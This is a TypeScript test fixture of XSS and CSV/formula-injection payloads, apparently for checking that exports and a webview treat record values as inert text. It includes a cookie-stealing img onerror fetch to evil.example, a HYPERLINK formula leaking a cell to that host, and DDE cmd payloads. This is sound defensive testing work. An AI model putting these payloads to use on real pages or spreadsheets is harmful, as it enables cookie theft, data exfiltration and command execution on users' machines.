/**
 * Record values carrying markup, script and spreadsheet formulas. Exports must keep every value as
 * text (round-trip exactly) and neutralise cells a spreadsheet would evaluate; the webview must
 * render them as text only.
 */
export interface MarkupCase {
  readonly name: string;
  readonly value: string;
  /** True when a spreadsheet would evaluate the cell, so CSV must neutralise it. */
  readonly formula: boolean;
}

const markup = (name: string, value: string): MarkupCase => ({ name, value, formula: false });
const formula = (name: string, value: string): MarkupCase => ({ name, value, formula: true });

export const MARKUP_CASES: readonly MarkupCase[] = [
  markup('script element', '<script>alert(document.cookie)</script>'),
  markup('img onerror', '<img src=x onerror="fetch(`https://evil.example/?`+document.cookie)">'),
  markup('svg onload', '<svg/onload=alert(1)>'),
  markup('iframe srcdoc', '<iframe srcdoc="<script>parent.postMessage(1,`*`)</script>"></iframe>'),
  markup('javascript URL', 'javascript:alert(1)'),
  markup('javascript URL in an anchor', '<a href="javascript:alert(1)">click</a>'),
  markup('data URL', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  markup('CSS expression', '<div style="background:url(javascript:alert(1));width:expression(alert(1))">x</div>'),
  markup('style element', '<style>*{display:none!important}</style>'),
  formula('CSS import (leading @ is a spreadsheet formula too)', '@import url(https://evil.example/x.css);'),
  markup('template injection', '{{constructor.constructor("alert(1)")()}}'),
  markup('closing tags', '</td></tr></table><h1>owned</h1>'),
  markup('HTML entities stay literal', '&lt;b&gt;&amp;&quot;'),
  markup('quotes and commas', 'a,"b",\'c\'\r\nd'),
  markup('1 MB value', '<b>' + 'A'.repeat(1 << 20) + '</b>'),
  formula('formula: equals', '=1+1'),
  formula('formula: HYPERLINK', '=HYPERLINK("https://evil.example/?x="&A1,"click")'),
  formula('formula: DDE', "=cmd|' /C calc'!A0"),
  formula('formula: plus', '+1+cmd|\' /C calc\'!A0'),
  formula('formula: minus', '-2+3+cmd|\' /C calc\'!A0'),
  formula('formula: at', '@SUM(1+1)*cmd|\' /C calc\'!A0'),
  formula('formula: tab then equals', '\t=1+1'),
  formula('formula: CR then equals', '\r=1+1'),
  formula('formula: equals with markup', '=<img src=x onerror=alert(1)>'),
  markup('negative number stays a number', '-42'),
  markup('signed exponent stays a number', '-1.5e+3'),
];
